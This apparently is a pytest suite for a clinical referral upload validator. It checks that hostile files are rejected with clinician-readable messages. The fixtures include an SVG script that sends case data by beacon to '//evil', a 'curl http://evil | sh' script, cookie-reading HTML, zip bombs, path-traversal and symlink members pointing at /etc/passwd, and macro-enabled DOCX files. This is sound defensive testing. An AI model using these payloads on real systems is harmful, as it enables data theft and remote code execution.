"""Hostile uploads: each must be refused with the right code and a message a clinician understands."""

import io
import stat
import zipfile

import pytest

from referrals.files import UploadRejected, detect_and_validate
from referrals.files.detect import GuardedMemberReader
from tests.referrals.files import builders

SVG_WITH_SCRIPT = (
    b'<?xml version="1.0" standalone="no"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('/api/cases').then(r => r.text()).then(t => navigator.sendBeacon('//evil', t))</script>"
    b"</svg>"
)
HTML = b"<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body></html>\n"
PE_HEADER = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + b"\x00" * 43 + b"\x80\x00\x00\x00"
ELF_HEADER = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00"


def rejected(path, **kwargs) -> UploadRejected:
    with pytest.raises(UploadRejected) as caught:
        detect_and_validate(path, **kwargs)
    return caught.value


# --------------------------------------------------------------------------- markup and programs


def test_html_renamed_pdf_is_rejected_as_a_mismatch(tmp_path):
    path = builders.write(tmp_path / "upload", HTML)
    error = rejected(path, client_name="discharge.pdf")
    assert error.code == "mismatch"
    assert error.user_message == "The file is called “discharge.pdf” but its content is not a PDF document."


def test_html_without_a_telling_name_is_rejected_as_markup(tmp_path):
    path = builders.write(tmp_path / "upload", HTML)
    error = rejected(path, client_name="page.html")
    assert error.code == "markup"
    assert "web page or script code" in error.user_message


def test_svg_carrying_a_script_named_svg_is_rejected_as_markup(tmp_path):
    path = builders.write(tmp_path / "upload", SVG_WITH_SCRIPT)
    assert rejected(path, client_name="diagram.svg").code == "markup"


def test_svg_carrying_a_script_named_txt_is_rejected_as_markup(tmp_path):
    path = builders.write(tmp_path / "upload", SVG_WITH_SCRIPT)
    error = rejected(path, client_name="diagram.txt")
    assert error.code == "markup"
    assert "HTML, SVG or XML" in error.user_message


def test_svg_carrying_a_script_named_png_is_rejected_as_a_mismatch(tmp_path):
    path = builders.write(tmp_path / "upload", SVG_WITH_SCRIPT)
    error = rejected(path, client_name="diagram.png")
    assert error.code == "mismatch"
    assert "not a PNG image" in error.user_message


def test_script_markup_later_in_a_text_file_is_rejected(tmp_path):
    data = b"Clinical summary\n" * 70000 + b"<script>alert(1)</script>\n"  # beyond the first 1 MiB chunk
    path = builders.write(tmp_path / "upload", data)
    assert rejected(path, client_name="summary.txt").code == "markup"


def test_markup_split_across_read_chunks_is_still_seen(tmp_path):
    data = b"a" * (1024 * 1024 - 3) + b"<svg onload=alert(1)>"
    path = builders.write(tmp_path / "upload", data)
    assert rejected(path).code == "markup"


def test_a_windows_executable_is_rejected_listing_the_allowed_types(tmp_path):
    path = builders.write(tmp_path / "upload", PE_HEADER + b"\x00" * 500)
    error = rejected(path, client_name="viewer.exe")
    assert error.code == "type"
    assert error.user_message == (
        "This type of file is not accepted. "
        "Upload a PDF, JPEG, PNG, DICOM file or zipped DICOM study, plain text or DOCX file."
    )


def test_a_windows_executable_named_pdf_is_rejected(tmp_path):
    path = builders.write(tmp_path / "upload", PE_HEADER + b"\x00" * 500)
    assert rejected(path, client_name="results.pdf").code == "mismatch"


def test_an_elf_binary_is_rejected(tmp_path):
    path = builders.write(tmp_path / "upload", ELF_HEADER + b"\x00" * 500)
    assert rejected(path, client_name="tool").code == "type"


def test_a_shell_script_is_rejected(tmp_path):
    path = builders.write(tmp_path / "upload", b"#!/bin/bash\ncurl http://evil | sh\n")
    assert rejected(path, client_name="notes").code == "type"


def test_text_in_latin1_or_with_nul_bytes_is_rejected(tmp_path):
    latin1 = builders.write(tmp_path / "latin1", "Größe".encode("latin-1"))
    nul = builders.write(tmp_path / "nul", b"abc\x00def")
    assert rejected(latin1).code == "type"
    assert rejected(nul).code == "type"


# --------------------------------------------------------------------------- fake and broken images


def test_a_truncated_jpeg_is_rejected(tmp_path):
    data = builders.image_bytes("JPEG", (300, 200))
    path = builders.write(tmp_path / "upload", data[: len(data) // 2])
    error = rejected(path, client_name="photo.jpg")
    assert error.code == "type"
    assert "JPEG image could not be read" in error.user_message


def test_a_fake_png_with_only_the_magic_bytes_is_rejected(tmp_path):
    path = builders.write(tmp_path / "upload", b"\x89PNG\r\n\x1a\n" + b"<script>alert(1)</script>")
    assert rejected(path, client_name="chart.png").code == "type"


def test_a_png_decompression_bomb_is_rejected(tmp_path, monkeypatch):
    from PIL import Image

    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 1000)
    path = builders.write(tmp_path / "upload", builders.image_bytes("PNG", (100, 100)))
    error = rejected(path)
    assert error.code == "too_large"
    assert "too many pixels" in error.user_message


def test_a_png_just_over_the_pixel_warning_threshold_is_rejected_too(tmp_path, monkeypatch):
    from PIL import Image

    # Between MAX_IMAGE_PIXELS and twice that Pillow only warns; that warning is a refusal here.
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 6000)
    path = builders.write(tmp_path / "upload", builders.image_bytes("PNG", (100, 100)))
    assert rejected(path).code == "too_large"


# --------------------------------------------------------------------------- zips


def test_a_zip_bomb_member_is_rejected(tmp_path):
    path = tmp_path / "bomb.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("IM0001", "w") as member:
        zeros = b"\x00" * (1024 * 1024)
        for _ in range(50):  # 50 MB of zeros, a few dozen KB compressed
            member.write(zeros)
    error = rejected(path, client_name="study.zip")
    assert error.code == "zip_bomb"
    assert "more than 100 times" in error.user_message


def test_a_zip_with_too_many_members_is_rejected(tmp_path, settings):
    settings.CASE_ZIP_MAX_MEMBERS = 3
    path = builders.write(tmp_path / "many.zip", builders.zip_bytes({f"IM{i}": b"x" for i in range(4)}))
    error = rejected(path)
    assert error.code == "zip_bomb"
    assert "more than 3 files" in error.user_message


def test_a_zip_that_unpacks_beyond_the_total_limit_is_rejected(tmp_path, settings):
    settings.CASE_ZIP_MAX_UNCOMPRESSED_SIZE = 10_000
    members = {f"IM{i}": bytes(range(256)) * 20 for i in range(3)}  # 15 KB in all
    path = builders.write(tmp_path / "big.zip", builders.zip_bytes(members, zipfile.ZIP_STORED))
    assert rejected(path).code == "zip_bomb"


def test_a_zip_whose_index_understates_a_member_size_is_rejected(tmp_path):
    # The directory claims 1 KB for a 2 MB member so the ratio test passes; the
    # content does not match its index, which zipfile's CRC check exposes.
    big = builders.dicom_bytes(builders.base_dataset(rows=1024, columns=1024))
    data = builders.zip_bytes({"IM0001": big})
    lying = builders.patch_central_directory_sizes(data, "IM0001", file_size=1024)
    path = builders.write(tmp_path / "lying.zip", lying)
    error = rejected(path, client_name="study.zip")
    assert error.code == "zip_invalid"
    assert "damaged or incomplete" in error.user_message


def test_reading_a_member_stops_when_more_bytes_come_out_than_declared():
    reader = GuardedMemberReader(io.BytesIO(b"x" * 5000), declared_size=1000, name="IM0001")
    assert reader.read(600) == b"x" * 600
    with pytest.raises(UploadRejected) as caught:
        reader.read(600)
    assert caught.value.code == "zip_bomb"
    assert "more data than its index says" in caught.value.user_message


@pytest.mark.parametrize("name", ["../../etc/cron.d/x", "/etc/passwd", "C:/Windows/x.dcm", "a/../../b"])
def test_a_zip_with_a_traversal_or_absolute_member_name_is_rejected(tmp_path, name):
    path = builders.write(tmp_path / "evil.zip", builders.zip_bytes({name: b"x"}))
    error = rejected(path)
    assert error.code == "zip_invalid"
    assert "outside the archive" in error.user_message


def test_a_zip_with_a_symlink_member_is_rejected(tmp_path):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        link = zipfile.ZipInfo("IM0001")
        link.create_system = 3
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
    path = builders.write(tmp_path / "link.zip", buffer.getvalue())
    error = rejected(path)
    assert error.code == "zip_invalid"
    assert "link" in error.user_message


def test_a_zip_with_encrypted_members_is_rejected(tmp_path):
    data = builders.mark_encrypted(builders.zip_bytes({"IM0001": b"secret"}))
    path = builders.write(tmp_path / "encrypted.zip", data)
    error = rejected(path)
    assert error.code == "zip_invalid"
    assert "without a password" in error.user_message


def test_a_zip_inside_a_zip_is_rejected(tmp_path):
    inner, _ = builders.study_zip_bytes(slices=1)
    path = builders.write(tmp_path / "nested.zip", builders.zip_bytes({"study.zip": inner}))
    assert rejected(path).code == "zip_invalid"


def test_a_disguised_nested_archive_is_found_by_its_content(tmp_path):
    inner, _ = builders.study_zip_bytes(slices=1)
    path = builders.write(tmp_path / "nested.zip", builders.zip_bytes({"IM0001": inner}))
    error = rejected(path)
    assert error.code == "zip_invalid"
    assert "another archive" in error.user_message


def test_a_zip_that_is_not_a_zip_is_rejected(tmp_path):
    path = builders.write(tmp_path / "fake.zip", b"PK\x03\x04" + b"\x00" * 200)
    assert rejected(path).code == "zip_invalid"


def test_a_random_zip_that_is_neither_docx_nor_dicom_is_rejected(tmp_path):
    data = builders.zip_bytes({"notes.txt": b"hello", "photo.png": builders.image_bytes("PNG")})
    path = builders.write(tmp_path / "misc.zip", data)
    error = rejected(path, client_name="misc.zip")
    assert error.code == "type"
    assert "which is not a DICOM file" in error.user_message


def test_a_zip_study_without_any_image_is_rejected(tmp_path):
    path = builders.write(tmp_path / "study.zip", builders.zip_bytes({"DICOMDIR": builders.dicomdir_bytes()}))
    error = rejected(path)
    assert error.code == "type"
    assert error.user_message == "The zip file contains no DICOM images."


def test_markup_after_a_megabyte_of_blank_lines_is_still_leading_markup(tmp_path):
    path = builders.write(tmp_path / "upload", b"\n" * (1024 * 1024 + 5) + b"<b>bold</b>")
    assert rejected(path).code == "markup"


def test_a_zip_of_only_os_junk_is_rejected(tmp_path):
    path = builders.write(tmp_path / "junk.zip", builders.zip_bytes({"__MACOSX/._x": b"j", ".DS_Store": b"j"}))
    assert rejected(path).code == "type"


def test_a_zip_study_with_one_truncated_member_is_rejected(tmp_path):
    good = builders.dicom_bytes(builders.base_dataset())
    cut = builders.dicom_bytes(builders.base_dataset())[:-100]
    data = builders.zip_bytes({"S1/IM1": good, "S1/IM2": cut, "S1/IM3": good})
    path = builders.write(tmp_path / "study.zip", data)
    error = rejected(path, client_name="study.zip")
    assert error.code == "dicom_truncated"
    assert "“S1/IM2” in the zip file is incomplete" in error.user_message


def test_a_zip_study_with_a_stray_report_is_rejected(tmp_path):
    data, _ = builders.study_zip_bytes(slices=2, extra={"DOE^JOHN/report.pdf": builders.pdf_bytes()})
    path = builders.write(tmp_path / "study.zip", data)
    error = rejected(path)
    assert error.code == "type"
    assert "report.pdf" in error.user_message


# --------------------------------------------------------------------------- Word documents


def test_a_macro_enabled_docx_is_rejected(tmp_path):
    data = builders.docx_bytes({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100})
    path = builders.write(tmp_path / "letter.docx", data)
    error = rejected(path, client_name="letter.docx")
    assert error.code == "macro"
    assert "macros" in error.user_message


def test_a_docx_declaring_macro_enabled_content_is_rejected(tmp_path):
    content_types = builders.DOCX_CONTENT_TYPES.replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    assert "macroEnabled" in content_types
    path = builders.write(tmp_path / "letter.docx", builders.docx_bytes(content_types=content_types))
    assert rejected(path).code == "macro"


def test_a_docx_with_an_embedded_archive_is_rejected(tmp_path):
    data = builders.docx_bytes({"word/embeddings/sheet.bin": builders.zip_bytes({"a": b"b"})})
    path = builders.write(tmp_path / "letter.docx", data)
    error = rejected(path)
    assert error.code == "zip_invalid"
    assert "embedded" in error.user_message
